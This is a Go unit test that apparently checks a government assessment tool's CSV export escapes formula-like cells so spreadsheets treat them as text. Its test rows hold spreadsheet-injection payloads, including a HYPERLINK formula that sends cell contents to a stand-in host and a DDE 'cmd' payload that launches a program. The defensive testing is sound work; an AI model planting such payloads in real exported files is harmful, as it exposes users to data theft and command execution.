package tabular

import (
	"bytes"
	"strings"
	"testing"

	"github.com/spbe-mandiri/spbe-mandiri/assessment"
)

// TestCSVCellsNeutralised (issue 11, class 9): a cell a spreadsheet would
// run as a formula is written as text; numbers stay numbers.
func TestCSVCellsNeutralised(t *testing.T) {
	var b bytes.Buffer
	rows := []assessment.RecapRow{{OPDKode: "=HYPERLINK(\"http://x.test/?\"&A1,\"klik\")", OPDNama: "+cmd|' /C calc'!A0", Instansi: "@SUM(1+1)",
		Predicate: "-2+3", KeyID: "\tx", BundleID: "\rx", Periode: 2026, Index: "2.5", ClaimedIndex: "-1"}}
	if err := WriteRecapCSV(&b, rows); err != nil {
		t.Fatal(err)
	}
	got := strings.Split(b.String(), "\n")[1]
	for _, want := range []string{`"'=HYPERLINK(""http://x.test/?""&A1,""klik"")"`, `'+cmd|' /C calc'!A0`, "'@SUM(1+1)", "'-2+3",
		"'\tx", "\"'\rx\"", ",2026,2.5,", ",-1,"} {
		if !strings.Contains(got, want) {
			t.Errorf("recap row lacks %q:\n%s", want, got)
		}
	}
	b.Reset()
	c := assessment.ConsolidationView{Periode: 2026, Rows: []assessment.ConsolidationRow{{Indicator: 1, Value: "3", Note: "=1+1", SetBy: "@x"}}}
	if err := WriteConsolidationCSV(&b, c); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "'=1+1") || !strings.Contains(b.String(), "'@x") || !strings.Contains(b.String(), "2026,1,3,") {
		t.Fatalf("consolidation:\n%s", b.String())
	}
}
